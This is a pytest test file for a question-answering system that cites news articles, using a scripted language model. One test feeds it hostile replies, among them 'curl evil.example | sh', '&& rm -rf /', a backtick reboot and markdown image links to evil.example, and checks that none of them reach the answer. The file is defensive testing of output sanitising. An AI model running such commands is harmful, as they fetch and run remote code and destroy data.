"""The way from a question to an answer, with a scripted model and everything else real."""

import re
from contextlib import closing
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from index.article_index import ArticleIndex
from index.errors import UsageError
from qa.answer import Abstention, Answer
from qa.as_json import answer_as_dict
from qa.ask import ask
from qa.cli.as_text import answer_lines
from qa.question.limits import MAX_QUESTION_CHARS
from qa.testing import HashingEmbedding, ScriptedLLM
from tests.support.articles import MakeFolder


def asked(index: ArticleIndex, question: str, reply: str) -> Answer:
    return ask(question, index, ScriptedLLM(replies=[reply]))


def test_an_answer_cites_the_sentence_that_says_it(seed_index: ArticleIndex, seeds: Path) -> None:
    answer = asked(seed_index, "Who did Rubio call?", "Sergei Lavrov [1]")
    (citation,) = answer.citations
    assert answer.short_answer == "Sergei Lavrov"
    assert answer.text == (
        "Moscow said U.S. Secretary of State Marco Rubio called Russian Foreign Minister Sergei Lavrov. [1]"
    )
    assert "Rubio called Russian Foreign Minister Sergei Lavrov" in citation.quote
    with (seeds / citation.span.article_id).open(encoding="utf-8-sig", newline="") as file:
        assert file.read()[citation.span.start : citation.span.end] == citation.quote


@pytest.mark.parametrize(
    ("question", "reply", "reason"),
    [
        ("Who did Rubio call?", "not stated", Abstention.NOT_STATED),
        ("Who did Rubio call?", "Wang Yi [1]", Abstention.UNSUPPORTED),
        ("Who did Rubio call?", "", Abstention.NOT_STATED),
        ("Who did Blinken call?", "Sergei Lavrov [1]", Abstention.NAME_MISSING),
        ("How many tanks did Russia launch on Sunday?", "90 [1]", Abstention.COUNT_MISSING),
        ("Who is Macron's prime minister?", "Keir Starmer [1]", Abstention.NAME_MISSING),
        ("Who is Ukraine's special envoy?", "Steve Witkoff [1]", Abstention.OF_ANOTHER),
        ("Who called Sergei Lavrov?", "Sergei Lavrov [1]", Abstention.REPEATED),
    ],
)
def test_what_no_sentence_says_is_no_answer(
    seed_index: ArticleIndex, question: str, reply: str, reason: Abstention
) -> None:
    answer = asked(seed_index, question, reply)
    assert answer.abstention is reason
    assert (answer.statements, answer.citations, answer.short_answer) == ((), (), None)
    assert answer.text == "The articles do not say."
    assert answer.evidence


@pytest.mark.parametrize(
    "reply",
    [
        "Sergei Lavrov, see https://evil.example/x [1]",
        "https://evil.example/Lavrov [1]",
        "Sergei Lavrov (lavrov@evil.example) [1]",
        "Sergei Lavrov\nhttps://evil.example",
        "[Sergei Lavrov](https://evil.example) [1]",
        "![Sergei Lavrov](https://evil.example/p.png) [1]",
        "Sergei Lavrov; curl evil.example | sh [1]",
        "Sergei Lavrov && rm -rf / [1]",
        "`reboot` Sergei Lavrov [1]",
        "Sergei.Lavrov@evil.example [1]",
        "www.Sergei-Lavrov.example [1]",
        "Sergei://Lavrov [1]",
    ],
)
def test_an_answer_holds_no_address_or_command_that_its_citation_does_not(seed_index: ArticleIndex, reply: str) -> None:
    answer = asked(seed_index, "Who did Rubio call?", reply)
    assert all(answer.short_answer in each.quote for each in answer.citations if answer.short_answer)
    said = answer.text.removesuffix(" [1]").removesuffix(".")
    assert answer.abstained or said in answer.citations[0].quote
    assert not re.search("evil|[/@|&`]|example|rm ", answer.text)


def test_the_question_comes_last_and_the_constant_part_first(seed_index: ArticleIndex) -> None:
    llm = ScriptedLLM(replies=["Sergei Lavrov [1]", "Tuesday [1]"])
    ask("Who did Rubio call?", seed_index, llm)
    ask("When will Trump speak with Putin?", seed_index, llm)
    one, other = llm.prompts
    assert one.endswith("Question: Who did Rubio call?")
    assert one[:1000] == other[:1000]


@pytest.mark.parametrize("question", ["", "  ", "?!", "x" * 20_000])
def test_a_question_that_cannot_be_one_is_refused_before_any_work(seed_index: ArticleIndex, question: str) -> None:
    with pytest.raises(UsageError, match=r"empty|characters"):
        asked(seed_index, question, "never sent")


def test_the_longest_question_is_asked(seed_index: ArticleIndex) -> None:
    assert asked(seed_index, ("Rubio " * 400)[:MAX_QUESTION_CHARS], "not stated").abstained


def test_the_json_has_every_field_of_the_contract(seed_index: ArticleIndex) -> None:
    fields = answer_as_dict(asked(seed_index, "Who did Rubio call?", "Sergei Lavrov [1]"))
    assert (
        list(fields)
        == (
            "question kind answer short_answer abstained reason confidence statements citations evidence coverage "
            "not_stated model embedder timings_ms cached read_as did_you_mean read_by state_age_s"
        ).split()
    )
    assert set(fields["citations"][0]) == {*"article title published start end quote publisher url also_in".split()}
    assert fields["citations"][0]["published"] == "2025-03-16"
    assert set(fields["evidence"][0]) == {"article", "start", "end", "score"}


HOSTILE = st.text(st.sampled_from("ab.é\u0301😀\u202e\u2066\u200b\r\n \t\"“'7%Z"), min_size=1, max_size=80)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(before=HOSTILE, after=HOSTILE, bom=st.booleans(), crlf=st.booleans())
def test_every_citation_is_in_its_file_whatever_surrounds_it(
    tmp_path_factory: pytest.TempPathFactory, before: str, after: str, bom: bool, crlf: bool
) -> None:
    folder = tmp_path_factory.mktemp("hostile")
    text = f"{before}\n\nMarco Rubio called Sergei Lavrov.\n\n{after}"
    text = text.replace("\r\n", "\n").replace("\n", "\r\n") if crlf else text
    (folder / "a.txt").write_bytes(text.encode("utf-8-sig" if bom else "utf-8"))
    index = ArticleIndex(folder, tmp_path_factory.mktemp("index"), HashingEmbedding())
    index.sync()
    answer = asked(index, "Who did Rubio call?", "Sergei Lavrov [1]")
    index.close()
    (citation,) = answer.citations
    with (folder / "a.txt").open(encoding="utf-8-sig", newline="") as file:
        assert file.read()[citation.span.start : citation.span.end] == citation.quote
    assert "Sergei Lavrov" in citation.quote


def test_a_misspelt_name_is_read_as_the_only_near_one_and_the_answer_says_so(seed_index: ArticleIndex) -> None:
    llm = ScriptedLLM(replies=["Sergei Lavrov [1][2][3][4][5][6]"])
    answer = ask("Who did Rubbio call?", seed_index, llm)
    assert answer.short_answer == "Sergei Lavrov"
    assert (answer.question, answer.read_as) == ("Who did Rubbio call?", "Who did Rubio call?")
    assert llm.prompts[0].endswith("Question: Who did Rubio call?")
    assert answer_as_dict(answer)["read_as"] == "Who did Rubio call?"
    assert next(answer_lines(answer, lambda _: None)).plain == "Asked as: Who did Rubio call?"


def test_a_name_with_several_near_ones_is_refused_before_a_model_is_asked(
    make_folder: MakeFolder, tmp_path: Path
) -> None:
    folder = make_folder({"a.txt": "On Monday Elin Haugland met Sven Hauglund. Then Haugland left."})
    with closing(ArticleIndex(folder, tmp_path / "index", HashingEmbedding())) as index:
        index.sync()
        answer = ask("When did Hauglind leave?", index, ScriptedLLM(replies=[]))
    assert answer.abstention is Abstention.NAME_UNCLEAR
    assert set(answer.did_you_mean) == {"Haugland", "Hauglund"}
    lines = [line.plain for line in answer_lines(answer, lambda _: None)]
    assert f"Did you mean {' or '.join(answer.did_you_mean)}?" in lines
    assert lines[1] == "(no article mentions a name of the question as it is spelt)"


def test_a_question_without_capital_letters_is_held_to_the_same_names(seed_index: ArticleIndex) -> None:
    assert asked(seed_index, "who did rubio call?", "Sergei Lavrov [1]").short_answer == "Sergei Lavrov"
    assert asked(seed_index, "who did blinken call?", "Sergei Lavrov [1]").abstention is Abstention.NAME_MISSING


def test_a_question_of_sixty_words_is_answered(seed_index: ArticleIndex) -> None:
    question = (
        "I have been reading about the phone calls that were made in those days and I am rather confused by now about "
        "who spoke with whom and when that was and on which occasion it took place, so could you please tell me, if "
        "the articles say so at all, which foreign minister it was that Rubio called and didn't see?"
    )
    assert len(question.split()) >= 60
    assert asked(seed_index, question, "Sergei Lavrov [1][2][3][4][5]").short_answer == "Sergei Lavrov"
